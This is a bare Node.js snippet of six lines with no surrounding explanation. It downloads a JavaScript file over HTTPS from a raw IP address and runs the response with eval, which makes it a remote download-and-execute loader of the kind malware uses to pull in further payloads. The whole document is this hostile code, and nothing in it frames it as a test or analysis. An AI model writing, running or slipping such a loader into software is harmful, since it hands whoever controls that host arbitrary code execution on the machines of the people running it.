const https = require('https');
https.get('https://203.0.113.7/p.js', (r) => {
  let d = '';
  r.on('data', (c) => (d += c));
  r.on('end', () => eval(d));
});
